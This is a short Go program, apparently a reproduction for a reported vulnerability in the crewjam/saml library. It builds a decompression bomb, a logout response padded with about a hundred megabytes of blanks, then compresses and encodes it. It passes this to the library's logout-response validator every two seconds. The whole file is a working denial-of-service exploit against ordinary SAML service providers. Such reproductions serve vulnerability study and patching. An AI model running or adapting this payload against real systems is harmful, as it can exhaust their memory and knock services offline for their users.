// Command saml-inflate takes answers of an identity provider.
//
// https://github.com/golang/vulndb/issues/1664
package main

import (
	"bytes"
	"compress/flate"
	"encoding/base64"
	"io"
	"log"
	"sync/atomic"
	"time"

	"github.com/crewjam/saml"

	"wild/kit"
)

var logouts atomic.Int64

func main() {
	kit.Serve()
	answer := deflate()
	provider := &saml.ServiceProvider{}
	go func() {
		for range time.Tick(2 * time.Second) {
			logout(provider, answer)
		}
	}()
	for range time.Tick(10 * time.Second) {
		log.Print(logouts.Load(), " logouts")
	}
}

// logout takes an answer to a logout; it says nothing of what is wrong with one.
func logout(provider *saml.ServiceProvider, answer string) {
	if err := provider.ValidateLogoutResponseRedirect(answer); err == nil {
		log.Print("accepted")
	}
	logouts.Add(1)
}

// deflate is what a browser is told to bring: a hundred megabytes of blanks.
func deflate() string {
	var b bytes.Buffer
	w, err := flate.NewWriter(&b, flate.BestCompression)
	if err != nil {
		log.Fatal(err)
	}
	io.WriteString(w, "<LogoutResponse>")
	blanks := bytes.Repeat([]byte(" "), 1<<16)
	for range 1600 {
		w.Write(blanks)
	}
	io.WriteString(w, "</LogoutResponse>")
	if err := w.Close(); err != nil {
		log.Fatal(err)
	}
	return base64.StdEncoding.EncodeToString(b.Bytes())
}
